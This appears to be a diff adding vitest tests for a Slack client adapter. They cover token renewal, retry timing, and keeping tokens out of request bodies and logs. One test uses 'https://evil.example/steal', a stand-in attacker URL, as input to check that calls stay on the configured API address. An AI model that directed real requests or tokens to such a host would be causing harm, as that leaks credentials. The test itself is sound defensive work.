@@ -1,0 +1,78 @@
+import { readFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { expect, test, vi } from 'vitest';
+import { createClients } from '#adapters/slack/clients.ts';
+import { NotInstalled, TokenFault } from '#adapters/slack/install/workspaces.ts';
+import { createLog } from '#src/assembly/log.ts';
+import { aDirectory } from '#test/kit/a-database.ts';
+import { aFakeSlack } from '#test/kit/fake-slack.ts';
+import type { Mishap } from '#test/kit/fake-slack.ts';
+import { aDeparting, aSlackMessenger, CANARY, outcomeOf } from './a-messenger.ts';
+
+const API = 'https://slack.example/api/';
+
+test('a token that was renewed is used from the next call on, and one that was not keeps its client', async () => {
+  const slack = aFakeSlack();
+  let token = 'xoxb-first';
+  const clients = createClients({ apiUrl: API, fetch: slack.fetch, tokenFor: async () => token });
+  const first = await clients('T1', 'bulk');
+  expect(await clients('T1', 'bulk')).toBe(first);
+  expect(await clients('T1', 'interactive')).not.toBe(first);
+  await first.apiCall('conversations.open', { users: 'U1' });
+  token = 'xoxb-second';
+  await (await clients('T1', 'bulk')).apiCall('conversations.open', { users: 'U1' });
+  expect(slack.calls.map((call) => call.token)).toEqual(['xoxb-first', 'xoxb-second']);
+});
+
+test('no call leaves the configured address, and none carries the token beside its header', async () => {
+  const asked: string[] = [];
+  const bodies: string[] = [];
+  const fetch = (async (url: string, init: RequestInit) => {
+    asked.push(url);
+    bodies.push(JSON.stringify(init.body));
+    return Response.json({ ok: true });
+  }) as unknown as typeof globalThis.fetch;
+  const client = await createClients({ apiUrl: API, fetch, tokenFor: async () => CANARY })('T1', 'bulk');
+  await client.apiCall('https://evil.example/steal', { text: 'x' });
+  await client.apiCall('chat.postMessage', { text: 'x' });
+  expect(asked.every((url) => url.startsWith(API))).toBe(true);
+  expect(bodies.join()).not.toContain(CANARY);
+});
+
+test.each([
+  [new NotInstalled('not here'), null],
+  [new TokenFault('withdrawn', false), null],
+  [new TokenFault('busy', true), 60_000],
+])('%s: the next try is in %s ms', async (cause, retryAfter) => {
+  const world = aSlackMessenger({ tokenFor: () => Promise.reject(cause) });
+  expect(await outcomeOf(world, aDeparting())).toMatchObject({ definite: true, retryAfter });
+});
+
+test('no line of a log holds the token, at any level, whatever goes wrong', async () => {
+  const file = join(aDirectory(), 'ragtime.log');
+  const log = createLog(file);
+  const printed: string[] = [];
+  const spies = [process.stdout, process.stderr].map((stream) =>
+    vi.spyOn(stream, 'write').mockImplementation((text) => printed.push(String(text)) > 0),
+  );
+  const mishaps: readonly Mishap[] = [
+    { status: 429, retryAfter: CANARY },
+    { status: 500, body: CANARY },
+    { status: 403, body: `{"error":"${CANARY}"}` },
+    { body: `{"ok":false,"error":"${CANARY}"}` },
+    { body: `{"ok":false,"error":"invalid_blocks","response_metadata":{"messages":["[ERROR] ${CANARY}"]}}` },
+    { breaks: CANARY },
+    { error: 'token_revoked' },
+  ];
+  for (const mishap of mishaps) {
+    const world = aSlackMessenger();
+    world.slack.next('chat.postMessage', mishap);
+    const error = await outcomeOf(world, aDeparting());
+    for (const level of ['info', 'error'] as const) log({ level, what: 'It went wrong.', error });
+    printed.push(...world.reports);
+  }
+  for (const spy of spies) spy.mockRestore();
+  const lines = readFileSync(file, 'utf8');
+  expect(lines.split('\n').length).toBeGreaterThan(mishaps.length);
+  expect(lines + printed.join('\n')).not.toContain('canary');
+});
